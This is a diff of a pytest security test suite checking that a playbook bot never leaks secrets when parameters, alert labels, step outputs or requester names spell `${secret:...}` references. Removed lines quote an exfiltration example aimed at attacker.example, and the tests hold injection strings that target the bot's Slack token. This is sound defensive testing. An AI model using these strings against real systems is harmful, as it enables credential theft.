@@ -1,8 +1,9 @@
 """Secrets reach an action only where the playbook's own template called `secret()`; data never can.
 
 Every attack runs the real PlaybookRun on the real dev server with the real worker assembly
-(`worker_deps`: http.request, SecretStore, audit store) and sends to a local HTTP sink that keeps
-every byte it receives. The sink must never see a secret value except where the playbook put it
+(`worker_deps`: http.request, SecretStore, audit store, the playbook in its catalog) and sends to a
+local HTTP sink that keeps every byte it receives. The sink's base URL is the playbook's own constant
+(`vars.sink`, filled in per test): the attacker controls a path or query segment, never the host. The sink must never see a secret value except where the playbook put it
 (the X-Legit header: the positive control that the legitimate use still works).
 """
 
@@ -16,7 +17,7 @@ from dataclasses import dataclass, field
 from datetime import datetime, timezone
 from http.server import BaseHTTPRequestHandler
 from pathlib import Path
-from typing import Any, AsyncIterator, Iterator
+from typing import Any, Iterator
 from urllib.parse import quote, quote_plus, unquote, unquote_plus
 
 import pytest
@@ -28,7 +29,7 @@ from bot.audit.store import SqliteAuditStore, default_path
 from bot.engine.state import RunInput, RunStatus, TriggerContext
 from bot.engine.worker import make_worker, worker_deps
 from bot.engine.workflow import PlaybookRun
-from bot.playbook.loader import load_text
+from bot.playbook.loader import Catalog, load_text
 from bot.settings import Settings
 from bot.slack.commands import slack_run_id
 from tests.http_server import serving
@@ -156,24 +157,38 @@ def sink() -> Iterator[Sink]:
         yield Sink(url, requests)
 
 
+SINK = "@SINK@"  # the playbooks' `vars.sink`, replaced by the sink's URL when a test loads them
+
+
+def with_sink(text: str, sink: Sink) -> str:
+    """The playbook with the sink as its base-URL constant (a literal, as `vars` must be)."""
+    assert SINK in text
+    return text.replace(SINK, sink.url)
+
+
 @dataclass
 class Bot:
     settings: Settings
-    task_queue: str
     client: Any
 
     async def run(self, text: str, params: dict[str, Any], *, requested_by: str = "cli:tester",
                   alert: dict[str, Any] | None = None) -> tuple[RunStatus, Any]:
+        """Start the run straight on Temporal (no proof: an unverified requester) and wait for it,
+        on a worker whose catalog holds this playbook (it refuses any other)."""
         loaded = load_text(text)
         kind = "alertmanager" if alert is not None else "cli"
         run_input = RunInput(
             playbook=loaded.playbook, playbook_hash=loaded.hash, params=params,
             trigger=TriggerContext(kind=kind, requested_by=requested_by, alert=alert),
         )
-        handle = await self.client.start_workflow(
-            PlaybookRun.run, run_input, id=f"secrets-{uuid.uuid4()}", task_queue=self.task_queue
-        )
-        return await handle.result(), handle
+        async with worker_deps(self.settings, catalog=Catalog([loaded])) as deps:
+            async with make_worker(self.client, f"tq-{uuid.uuid4()}", deps.activities) as worker:
+                handle = await self.client.start_workflow(
+                    PlaybookRun.run, run_input, id=f"secrets-{uuid.uuid4()}", task_queue=worker.task_queue
+                )
+                status = await handle.result()
+        assert "refused by the worker" not in (status.error or ""), status.error
+        return status, handle
 
     def audit_text(self, run_id: str) -> str:
         with SqliteAuditStore(default_path(self.settings)) as store:
@@ -181,7 +196,7 @@ class Bot:
 
 
 @pytest_asyncio.fixture
-async def bot(dev_env, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Bot]:
+async def bot(dev_env, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Bot:
     policies = tmp_path / "policies" / "playbook" / "authz"
     policies.mkdir(parents=True)
     (policies / "authz.rego").write_text(POLICY)
@@ -192,9 +207,7 @@ async def bot(dev_env, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Async
     settings = Settings(
         data_dir=tmp_path / "data", policies_dir=tmp_path / "policies", secrets_file=secrets, slack_bot_token=None,
     )
-    async with worker_deps(settings) as deps:
-        async with make_worker(dev_env.client, f"tq-{uuid.uuid4()}", deps.activities) as worker:
-            yield Bot(settings, worker.task_queue, dev_env.client)
+    return Bot(settings, dev_env.client)
 
 
 def assert_nothing_leaked(sink: Sink) -> None:
@@ -208,15 +221,16 @@ def assert_nothing_leaked(sink: Sink) -> None:
 PARAMS_PB = """
 name: exfil-params
 secrets: [DEPLOY_TOKEN]
+vars: {sink: "@SINK@"}
 params:
-  target: {type: string}
+  target: {type: string, pattern: "^.*$"}   # deliberately permissive: the attacker writes path and query
   note: {type: string, default: ""}
 steps:
   - id: call
     action: http.request
     with:
       method: POST
-      url: "{{ params.target }}"
+      url: "{{ vars.sink }}/in/{{ params.target }}"
       query: {note: "{{ params.note }}"}
       headers: {X-Legit: "{{ secret('DEPLOY_TOKEN') }}"}
       body: "note={{ params.note }}"
@@ -224,10 +238,14 @@ steps:
 
 
 async def test_a_param_spelling_a_reference_reaches_no_secret(bot: Bot, sink: Sink) -> None:
-    # `/playbook run ... lb_api=https://attacker.example/${secret:PLAYBOOK_BOT_SLACK_BOT_TOKEN}?`
-    target = f"{sink.url}/in/${{secret:DEPLOY_TOKEN}}?s=${{secret:PLAYBOOK_BOT_SLACK_BOT_TOKEN}}&m={MARKERS}"
-    status, _ = await bot.run(PARAMS_PB, {"target": target, "note": SPELLED})
+    # `/playbook run ... target=${secret:PLAYBOOK_BOT_SLACK_BOT_TOKEN}/`: the path after /in/ is the attacker's
+    target = f"${{secret:DEPLOY_TOKEN}}/${{secret:PLAYBOOK_BOT_SLACK_BOT_TOKEN}}/{MARKERS}?s=${{secret:DEPLOY_TOKEN}}"
+    status, _ = await bot.run(with_sink(PARAMS_PB, sink), {"target": target, "note": SPELLED})
     assert status.state == "completed", status.error
+    [sent] = sink.requests
+    assert unquote(sent.path).startswith("/in/${secret:DEPLOY_TOKEN}/${secret:PLAYBOOK_BOT_SLACK_BOT_TOKEN}/"), (
+        "the attacker's path reached the URL, as text"
+    )
     assert_nothing_leaked(sink)
     assert sink.legit() == [DEPLOY], "the template's own secret() still reaches the action"
 
@@ -235,20 +253,20 @@ async def test_a_param_spelling_a_reference_reaches_no_secret(bot: Bot, sink: Si
 ALERT_PB = """
 name: exfil-alert
 secrets: [DEPLOY_TOKEN]
+vars: {sink: "@SINK@"}
 params:
-  sink: {type: string}
-  service: {type: string}
+  service: {type: string, pattern: "^.*$"}   # deliberately permissive: the alert writes a path segment
   summary: {type: string, default: ""}
 triggers:
   alertmanager:
     - matchers: ['alertname="Exfil"']
-      params: {sink: "{{ alert.annotations.sink }}", service: "{{ alert.labels.service }}", summary: "{{ alert.annotations.summary }}"}
+      params: {service: "{{ alert.labels.service }}", summary: "{{ alert.annotations.summary }}"}
 steps:
   - id: call
     action: http.request
     with:
       method: POST
-      url: "{{ params.sink }}/alert/{{ params.service }}"
+      url: "{{ vars.sink }}/alert/{{ params.service }}"
       query: {label: "{{ alert.labels.service }}", annotation: "{{ alert.annotations.summary }}"}
       headers: {X-Legit: "{{ secret('DEPLOY_TOKEN') }}"}
       body: "{{ params.summary }} | {{ alert.annotations.summary }} | {{ alert.labels.service }}"
@@ -259,13 +277,14 @@ async def test_alert_labels_and_annotations_spelling_a_reference_reach_no_secret
     alert = Alert.model_validate({
         "status": "firing",
         "labels": {"alertname": "Exfil", "service": "${secret:DEPLOY_TOKEN}" + MARKERS},
-        "annotations": {"sink": sink.url, "summary": SPELLED},
+        "annotations": {"summary": SPELLED},
         "startsAt": datetime.now(timezone.utc).isoformat(),
         "fingerprint": uuid.uuid4().hex,
     })
-    [match] = route([load_text(ALERT_PB)], alert)  # the receiver's own routing renders the trigger params
+    text = with_sink(ALERT_PB, sink)
+    [match] = route([load_text(text)], alert)  # the receiver's own routing renders the trigger params
     assert match.ok, match.error
-    status, _ = await bot.run(ALERT_PB, match.params or {}, requested_by="alertmanager", alert=alert.as_context())
+    status, _ = await bot.run(text, match.params or {}, requested_by="alertmanager", alert=alert.as_context())
     assert status.state == "completed", status.error
     assert_nothing_leaked(sink)
     assert sink.legit() == [DEPLOY]
@@ -274,17 +293,16 @@ async def test_alert_labels_and_annotations_spelling_a_reference_reach_no_secret
 OUTPUT_PB = """
 name: exfil-output
 secrets: [DEPLOY_TOKEN]
-params:
-  sink: {type: string}
+vars: {sink: "@SINK@"}
 steps:
   - id: fetch
     action: http.request
-    with: {method: GET, url: "{{ params.sink }}/ref"}
+    with: {method: GET, url: "{{ vars.sink }}/ref"}
   - id: use
     action: http.request
     with:
       method: POST
-      url: "{{ params.sink }}/use/{{ steps.fetch.output.json.next }}"
+      url: "{{ vars.sink }}/use/{{ steps.fetch.output.json.next }}"
       query: {next: "{{ steps.fetch.output.json.next }}", slack: "{{ steps.fetch.output.json.slack }}",
               marker: "{{ steps.fetch.output.json.marker }}"}
       headers: {X-Legit: "{{ secret('DEPLOY_TOKEN') }}", X-Next: "{{ steps.fetch.output.json.next }}"}
@@ -293,7 +311,7 @@ steps:
 
 
 async def test_a_step_output_spelling_a_reference_reaches_no_secret(bot: Bot, sink: Sink) -> None:
-    status, _ = await bot.run(OUTPUT_PB, {"sink": sink.url})
+    status, _ = await bot.run(with_sink(OUTPUT_PB, sink), {})
     assert status.state == "completed", status.error
     assert [r.path.split("?")[0] for r in sink.requests][:1] == ["/ref"]
     assert len(sink.requests) == 2
@@ -304,15 +322,14 @@ async def test_a_step_output_spelling_a_reference_reaches_no_secret(bot: Bot, si
 REQUESTER_PB = """
 name: exfil-requester
 secrets: [DEPLOY_TOKEN]
-params:
-  sink: {type: string}
+vars: {sink: "@SINK@"}
 steps:
   - id: call
     action: http.request
     impact: high                      # policy sees the arguments too
     with:
       method: POST
-      url: "{{ params.sink }}/by"
+      url: "{{ vars.sink }}/by"
       query: {by: "{{ run.requested_by }}"}
       headers: {X-Legit: "{{ secret('DEPLOY_TOKEN') }}"}
       body: "requested by {{ run.requested_by }}"
@@ -320,7 +337,7 @@ steps:
 
 
 async def test_requested_by_spelling_a_reference_reaches_no_secret(bot: Bot, sink: Sink) -> None:
-    status, _ = await bot.run(REQUESTER_PB, {"sink": sink.url}, requested_by="cli:" + SPELLED)
+    status, _ = await bot.run(with_sink(REQUESTER_PB, sink), {}, requested_by="cli:" + SPELLED)
     assert status.state == "completed", status.error
     call = status.step("call")
     assert call.decision and call.decision["allow"], "policy saw `${secret:DEPLOY_TOKEN}`, as people do"
@@ -332,12 +349,13 @@ async def test_requested_by_spelling_a_reference_reaches_no_secret(bot: Bot, sin
 async def test_the_slash_command_attack_from_the_issue(
     dev_env, fake_slack: FakeSlack, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sink: Sink
 ) -> None:
-    """`/playbook run ... target=https://attacker.example/${secret:...}` through the real front door."""
+    """`/playbook run ... target=${secret:...}` through the real front door."""
     monkeypatch.setenv("PLAYBOOK_BOT_SECRET_DEPLOY_TOKEN", DEPLOY)  # the variable source, this time
     monkeypatch.setenv("PLAYBOOK_BOT_SLACK_BOT_TOKEN", SLACK)
-    target = f"{sink.url}/in/${{secret:DEPLOY_TOKEN}}?s=${{secret:PLAYBOOK_BOT_SLACK_BOT_TOKEN}}"
+    target = "${secret:DEPLOY_TOKEN}/${secret:PLAYBOOK_BOT_SLACK_BOT_TOKEN}"
     note = "\ue0000:DEPLOY_TOKEN\ue001"
-    async with slack_stack(dev_env.client, fake_slack, tmp_path, playbooks={"exfil-params": PARAMS_PB}) as stack:
+    playbooks = {"exfil-params": with_sink(PARAMS_PB, sink)}
+    async with slack_stack(dev_env.client, fake_slack, tmp_path, playbooks=playbooks) as stack:
         body, key = stack.command(f"dry-run exfil-params target={target} note={note}")
         assert (await stack.post(body)).status_code == 200
         shown = text_of(await stack.answers(key))
@@ -351,6 +369,9 @@ async def test_the_slash_command_attack_from_the_issue(
         slack_text = json.dumps([m.__dict__ for m in stack.fake.messages], ensure_ascii=False)
     assert slack_text != "[]", "the run was shown in Slack: the check below is not vacuous"
     assert status.state == "completed", status.error
+    assert [unquote(r.path.split("?")[0]) for r in sink.requests] == [
+        "/in/${secret:DEPLOY_TOKEN}/${secret:PLAYBOOK_BOT_SLACK_BOT_TOKEN}"
+    ], "the attacker's path reached the URL, as text"
     assert_nothing_leaked(sink)
     assert sink.legit() == [DEPLOY]
     assert found_in(slack_text, DEPLOY) == [] and SLACK not in slack_text
@@ -361,21 +382,20 @@ async def test_the_slash_command_attack_from_the_issue(
 SETTINGS_PB = """
 name: read-settings
 secrets: [PLAYBOOK_BOT_SLACK_BOT_TOKEN]  # declaring it does not make the bot's own setting readable
-params:
-  sink: {type: string}
+vars: {sink: "@SINK@"}
 steps:
   - id: call
     action: http.request
     with:
       method: POST
-      url: "{{ params.sink }}/token"
+      url: "{{ vars.sink }}/token"
       headers: {X-Token: "{{ secret('PLAYBOOK_BOT_SLACK_BOT_TOKEN') }}"}
     retry: {max_attempts: 1}
 """
 
 
 async def test_the_bots_own_slack_token_is_not_readable_as_a_secret(bot: Bot, sink: Sink) -> None:
-    status, _ = await bot.run(SETTINGS_PB, {"sink": sink.url})
+    status, _ = await bot.run(with_sink(SETTINGS_PB, sink), {})
     assert status.step("call").state == "failed"
     assert sink.requests == [], "the step must fail before sending anything"
     error = status.step("call").error or ""
@@ -388,27 +408,26 @@ async def test_the_bots_own_slack_token_is_not_readable_as_a_secret(bot: Bot, si
 MASK_PB = """
 name: mask-forms
 secrets: [DEPLOY_TOKEN]
-params:
-  sink: {type: string}
+vars: {sink: "@SINK@"}
 steps:
   - id: ok
     action: http.request
     with:
       method: POST
-      url: "{{ params.sink }}/reflect?t={{ secret('DEPLOY_TOKEN') }}"
+      url: "{{ vars.sink }}/reflect?t={{ secret('DEPLOY_TOKEN') }}"
       json: {t: "{{ secret('DEPLOY_TOKEN') }}"}
   - id: bad
     action: http.request
     with:
       method: POST
-      url: "{{ params.sink }}/reflect-500"
+      url: "{{ vars.sink }}/reflect-500"
       json: {t: "{{ secret('DEPLOY_TOKEN') }}"}
     retry: {max_attempts: 1}
 """
 
 
 async def test_every_encoded_form_is_masked_in_output_error_history_and_audit(bot: Bot, sink: Sink) -> None:
-    status, handle = await bot.run(MASK_PB, {"sink": sink.url})
+    status, handle = await bot.run(with_sink(MASK_PB, sink), {})
     assert (status.step("ok").state, status.step("bad").state) == ("succeeded", "failed")
     sent = [json.loads(r.body)["t"] for r in sink.requests]
     assert sent == [DEPLOY, DEPLOY], "the value did reach the API: the masking below is tested, not vacuous"
